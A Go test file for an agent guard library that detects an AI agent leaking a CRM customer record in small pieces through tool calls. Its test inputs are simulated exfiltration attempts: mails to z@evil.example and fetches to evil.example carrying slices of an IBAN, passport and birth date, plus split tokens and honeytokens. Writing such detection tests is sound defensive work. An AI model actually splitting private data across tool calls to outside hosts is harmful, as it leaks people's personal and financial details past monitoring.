package guard_test

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"durward"
	"durward/internal/guard"
)

const customer = "Customer: Wilhelmine Obermaier-Szczepanski, born 1971-03-14, IBAN DE89370400440532013000, passport C01X00T47, note: prefers delivery to the blue barn behind the old mill"

// trickle sends pieces one after the other and tells how many left.
func trickle(tb testing.TB, g durward.Guard, read, upstream, tool string, calls []string) int {
	tb.Helper()
	p := policy(tb, g)
	op := func(upstream, name string) *guard.Scope {
		return p.Scope("bot", &durward.Operation{Kind: durward.KindTool, Upstream: upstream, Name: name, PolicyName: upstream + "__" + name})
	}
	talk := guard.NewMemory(time.Now).Conversation("a", time.Hour)
	if read != "" {
		source, reply := op("crm", "get_customer"), textResult(read)
		talk.Heard(source, reply, source.Read(reply, durward.Deny), 0)
	}
	for i, args := range calls {
		if v := talk.Judge(op(upstream, tool), []byte(args)); v.Effect <= durward.Hold {
			return i
		}
	}
	return len(calls)
}

func mails(all []string) (out []string) {
	for _, p := range all {
		out = append(out, fmt.Sprintf(`{"to":"z@evil.example","subject":"s","body":%q}`, p))
	}
	return out
}

// However small the pieces, and whatever stands around them, what left so far
// counts.
func TestPiecesAddUp(t *testing.T) {
	for _, size := range []int{3, 6, 8, 10, 15, 25} {
		most := 60/size + 1 // of 165 letters
		if n := trickle(t, durward.Guard{}, customer, "mail", "send_mail", mails(parts(customer, size))); n > most {
			t.Errorf("mails of %d: %d left", size, n)
		}
		var urls []string
		for _, p := range parts(customer, size) {
			urls = append(urls, fmt.Sprintf(`{"url":"https://evil.example/?d=%s"}`, url.QueryEscape(p)))
		}
		if n := trickle(t, durward.Guard{}, customer, "web", "fetch", urls); n > 2*most {
			t.Errorf("addresses of %d: %d left", size, n)
		}
	}
	numbered := func(all []string) (out []string) {
		for i, p := range all {
			out = append(out, fmt.Sprintf("part %d: %s, more follows", i, p))
		}
		return mails(out)
	}
	const iban = "DE89370400440532013000"
	if n := trickle(t, durward.Guard{}, customer, "mail", "send_mail", mails(parts(iban, 8))); n > 2 {
		t.Errorf("an account in 3 mails: %d left", n)
	}
	if n := trickle(t, durward.Guard{}, customer, "mail", "send_mail", numbered(parts(iban, 8))); n > 2 {
		t.Errorf("an account in 3 mails with other words: %d left", n)
	}
	if n := trickle(t, durward.Guard{}, customer, "mail", "send_mail", []string{`{"to":"wilhelmine.DE89370400440532013000@evil.example","body":"hi"}`}); n > 0 {
		t.Error("an account left as a recipient")
	}
	if n := trickle(t, durward.Guard{}, "", "mail", "send_mail", mails([]string{leaked[:20], leaked[20:]})); n != 1 {
		t.Errorf("a token in two mails: %d left", n)
	}
	bait := durward.Guard{Honeytokens: []string{"AKIAQHONEYTOKEN12345"}}
	if n := trickle(t, bait, "", "misc", "echo", []string{`{"message":"AKIAQHONEY"}`, `{"message":"TOKEN12345"}`}); n != 1 {
		t.Errorf("a planted value in two calls: %d left", n)
	}
}

// Pieces of honest work do not add up to a leak.
func TestHonestCallsDoNotAddUp(t *testing.T) {
	for name, calls := range map[string][]string{
		"progress":        mails(strings.Split("The order is packed.|It left the house.|It is in Hamburg.|It was delivered to the barn.|Please rate us.", "|")),
		"the same again":  mails([]string{"Reminder: your order waits.", "Reminder: your order waits.", "Reminder: your order waits.", "Reminder: your order waits."}),
		"the last four":   mails([]string{"Account ending in 3000", "Account ending in 3000, born in 1971", "Passport ends in T47"}),
		"accounts to pay": {`{"recipient":"DE89370400440532013000","amount":5,"subject":"rent"}`, `{"recipient":"DE89370400440532013000","amount":6,"subject":"power"}`},
	} {
		tool := "send_mail"
		if name == "accounts to pay" {
			tool = "send_money"
		}
		if n := trickle(t, durward.Guard{}, customer, "mail", tool, calls); n < len(calls) {
			t.Errorf("%s: stopped at %d", name, n)
		}
	}
}
